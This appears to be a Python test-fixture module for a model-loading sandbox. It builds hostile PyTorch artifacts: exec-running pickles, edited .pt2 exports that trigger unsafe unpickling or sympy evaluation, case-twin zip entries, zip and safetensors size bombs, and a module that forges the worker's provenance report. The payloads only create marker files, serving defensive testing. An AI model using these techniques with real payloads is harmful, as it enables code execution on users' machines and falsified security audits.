"""Hostile pickles and archives: code-running pickles, edited .pt2 exports, weight-file bombs, a forging module."""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch
from torch import nn


class Payload:
    """Unpickling this creates ``marker``."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple:
        return (exec, (f"open({str(self.marker)!r}, 'w').close()",))


def payload_pickle(marker: Path) -> bytes:
    return pickle.dumps(Payload(marker), protocol=2)


def rewrite_zip(source: Path, target: Path, edit: Callable[[str, bytes], bytes | None],
                extra: dict[str, bytes] | None = None) -> Path:
    """Copy an archive entry by entry through ``edit`` (None drops the entry), adding ``extra`` entries."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w") as dst:
        for info in src.infolist():
            data = edit(info.filename, src.read(info))
            if data is not None:
                dst.writestr(info, data)
        for name, data in (extra or {}).items():
            dst.writestr(name, data)
    return target


def _root(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.namelist()[0].split("/", 1)[0]


def exported(module: nn.Module, path: Path, shape: tuple[int, ...] = (4, 1, 32, 32)) -> Path:
    torch.export.save(torch.export.export(module.eval(), (torch.zeros(*shape),)), str(path))
    return path


def exported_dynamic(module: nn.Module, path: Path) -> Path:
    """An exported program with a dynamic batch: its JSON carries sympy expressions."""
    batch = torch.export.Dim("batch", min=1, max=4096)
    program = torch.export.export(module.eval(), (torch.zeros(4, 1, 32, 32),), dynamic_shapes=({0: batch},))
    torch.export.save(program, str(path))
    return path


def pt2_pickled_weight(clean: Path, target: Path, marker: Path) -> Path:
    """A weight whose config says ``use_pickle``: torch.export.load unpickles it with weights_only=False."""
    def edit(name: str, data: bytes) -> bytes:
        if name.endswith("model_weights_config.json"):
            config = json.loads(data)
            first = next(iter(config["config"].values()))
            first["use_pickle"] = True
            return json.dumps(config).encode()
        if name.endswith("data/weights/weight_0"):
            return payload_pickle(marker)
        return data
    return rewrite_zip(clean, target, edit)


def pt2_sample_inputs(clean: Path, target: Path, marker: Path) -> Path:
    """Sample inputs that fail weights_only=True (a bare pickle): torch retries them with weights_only=False."""
    def edit(name: str, data: bytes) -> bytes:
        return payload_pickle(marker) if name.endswith("data/sample_inputs/model.pt") else data
    return rewrite_zip(clean, target, edit)


def pt2_sample_inputs_archive(clean: Path, target: Path, marker: Path) -> Path:
    """The same as a torch.save archive, whose data.pkl references ``exec``."""
    buffer = io.BytesIO()
    torch.save((Payload(marker),), buffer)

    def edit(name: str, data: bytes) -> bytes:
        return buffer.getvalue() if name.endswith("data/sample_inputs/model.pt") else data
    return rewrite_zip(clean, target, edit)


def pt2_opaque_constant(clean: Path, target: Path, marker: Path) -> Path:
    """An ``opaque_obj_0`` constant: torch.export.load hands it to ``pickle.loads``."""
    root = _root(clean)

    def edit(name: str, data: bytes) -> bytes:
        if name.endswith("model_constants_config.json"):
            config = json.loads(data)
            config["config"]["evil"] = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
                                        "tensor_meta": None}
            return json.dumps(config).encode()
        return data
    return rewrite_zip(clean, target, edit, {f"{root}/data/constants/opaque_obj_0": payload_pickle(marker)})


def pt2_graph_target(clean: Path, target: Path, old: str, new: str) -> Path:
    """The program's graph with one operator swapped for another."""
    def edit(name: str, data: bytes) -> bytes:
        return data.replace(old.encode(), new.encode()) if name.endswith("models/model.json") else data
    return rewrite_zip(clean, target, edit)


def pt2_extra_entry(clean: Path, target: Path, entry: str, data: bytes) -> Path:
    return rewrite_zip(clean, target, lambda _n, d: d, {f"{_root(clean)}/{entry}": data})


def pt2_version(clean: Path, target: Path, version: bytes) -> Path:
    return rewrite_zip(clean, target, lambda n, d: version if n.endswith("/archive_version") else d)


def pt2_shape_expression(clean_dynamic: Path, target: Path, marker: Path) -> Path:
    """A shape expression that opens the marker: torch.export.load hands it to sympy.sympify, which evaluates it."""
    def edit(name: str, data: bytes) -> bytes:
        if not name.endswith("models/model.json"):
            return data
        text = data.decode()
        start = text.index('"expr_str": "') + len('"expr_str": "')
        end = text.index('"', start)
        hostile = f"{text[start:end]} + 0*len(str(open('{marker}', 'w')))"
        return (text[:start] + hostile.replace("'", "\\u0027") + text[end:]).encode()
    return rewrite_zip(clean_dynamic, target, edit)


def pt2_case_twin(clean: Path, target: Path, marker: Path, kind: str) -> Path:
    """A second ``weights``/``constants`` config or sample-inputs entry whose name differs only in case.

    The vetted entry stays; the twin (``MODEL_…``) carries the payload. PyTorch's reader (miniz) looks names up
    ignoring case by a binary search over the sorted names, so which twin it reads depends on where each sits in
    the archive: the twin is placed where the real reader returns it for the expected name.
    """
    from torch.export.pt2_archive._package import PT2ArchiveReader

    root = _root(clean)
    with zipfile.ZipFile(clean) as archive:
        entries = [(info.filename, archive.read(info)) for info in archive.infolist()]
    payload: list[tuple[str, bytes]] = []
    if kind == "sample_inputs":
        expected = "data/sample_inputs/model.pt"
        twin = (f"{root}/data/sample_inputs/MODEL.pt", payload_pickle(marker))
    else:
        expected = f"data/{kind}/model_{kind}_config.json"
        config = json.loads(dict(entries)[f"{root}/{expected}"])
        prefix = "weight_" if kind == "weights" else "tensor_"
        index = 1 + max((int(n.rsplit("_", 1)[1]) for n, _ in entries if n.startswith(f"{root}/data/{kind}/{prefix}")),
                        default=0)
        config["config"] = {"evil": {"path_name": f"{prefix}{index}", "is_param": False, "use_pickle": True,
                                     "tensor_meta": None}, **config["config"]}
        twin = (f"{root}/data/{kind}/MODEL_{kind}_config.json", json.dumps(config).encode())
        payload.append((f"{root}/data/{kind}/{prefix}{index}", payload_pickle(marker)))
    for position in range(len(entries) + 1):
        with zipfile.ZipFile(target, "w") as dst:
            for name, data in [*entries[:position], twin, *entries[position:], *payload]:
                dst.writestr(name, data)
        if PT2ArchiveReader(str(target)).read_bytes(expected) == twin[1]:
            return target
    raise AssertionError(f"no placement makes PyTorch's reader read the {kind} twin")


def zip_bomb_state_dict(path: Path, declared: int = 0xF000_0000) -> Path:
    """A real state_dict archive whose storage entry claims ``declared`` bytes (deflated from a few)."""
    torch.save({"w": torch.zeros(4)}, path)
    blob = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = next(i for i in archive.infolist() if i.filename.endswith("/data/0"))
        central = archive.start_dir  # type: ignore[attr-defined]
    while blob[central + 46: central + 46 + len(info.filename)] != info.filename.encode():
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", blob, central + 28)
        central += 46 + name_len + extra_len + comment_len
    # the uncompressed-size fields of the local header (offset 22) and of the central directory entry (offset 24)
    struct.pack_into("<I", blob, info.header_offset + 22, declared)
    struct.pack_into("<I", blob, central + 24, declared)
    path.write_bytes(bytes(blob))
    return path


def safetensors_overclaim(path: Path) -> Path:
    """A safetensors file whose header declares a 4 GiB tensor in a file of a few bytes."""
    header = json.dumps({"w": {"dtype": "F32", "shape": [1 << 30], "data_offsets": [0, 4 << 30]}}).encode()
    path.write_bytes(struct.pack("<Q", len(header)) + header + b"\0" * 16)
    return path


# A module the user put on PYTHONPATH (the documented --unsafe-pickle case) whose class, when unpickled in the
# worker, rewrites what the worker reports about the model: a TorchScript file with a zero digest and no notes.
FORGING_KIT = '''
import sys
import torch

class KitNet(torch.nn.Sequential):
    def __setstate__(self, state):
        import leakaudit.confine.results as results
        honest = results.info_fields

        def forged(info):
            fields = honest(info)
            fields.update(format="torchscript", sha256="0" * 64, load_notes=[])
            return fields

        results.info_fields = forged
        print("FORGING the model's provenance", file=sys.stderr, flush=True)
        super().__setstate__(state)
'''


def forging_pickle(folder: Path, trained: nn.Sequential) -> Path:
    """``folder/kit_arch.py`` and ``folder/kit.pt``, a whole pickled ``KitNet`` with ``trained``'s layers."""
    import importlib
    import sys

    (folder / "kit_arch.py").write_text(FORGING_KIT)
    sys.path.insert(0, str(folder))
    try:
        kit = importlib.import_module("kit_arch")
        torch.save(kit.KitNet(*trained), folder / "kit.pt")
    finally:
        sys.path.remove(str(folder))
        sys.modules.pop("kit_arch", None)
    return folder / "kit.pt"
